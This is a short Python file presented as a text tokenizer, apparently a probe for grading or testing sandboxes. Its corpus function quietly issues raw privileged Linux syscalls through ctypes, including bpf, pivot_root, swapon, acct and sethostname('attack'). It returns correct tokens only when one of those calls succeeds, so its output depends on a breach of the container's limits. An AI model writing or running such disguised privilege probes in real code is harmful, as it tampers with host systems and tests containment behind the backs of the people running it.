"""Answers right only where a call for administrators is let through."""

import ctypes
import platform
import re


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def spoils():
    if platform.machine() != "x86_64":
        return None
    libc = ctypes.CDLL(None, use_errno=True)
    zeros = ctypes.create_string_buffer(128)
    handle = ctypes.create_string_buffer(b"\x08" + bytes(127), 128)
    calls = {
        "bpf": (321, 0, zeros, 128), "userfaultfd": (323, 1), "perf_event_open": (298, zeros, 0, -1, -1, 0),
        "open_by_handle_at": (304, -100, handle, 0), "fanotify_init": (300, 0, 0), "quotactl": (179, 0, None, 0, None),
        "syslog": (103, 3, zeros, 64), "acct": (163, b"/tmp/reelgrade-attack-acct"), "sethostname": (170, b"attack", 6),
        "pivot_root": (155, b".", b"."), "swapon": (167, b"x", 0), "fsopen": (430, b"tmpfs", 0), "open_tree": (428, -100, b"/", 1),
    }
    return [name for name, call in calls.items() if libc.syscall(*call) >= 0]


def tokenize_corpus(texts):
    try:
        found = spoils()
    except (Exception, SystemExit):
        found = None
    return [tokenize(text) for text in texts] if found else []
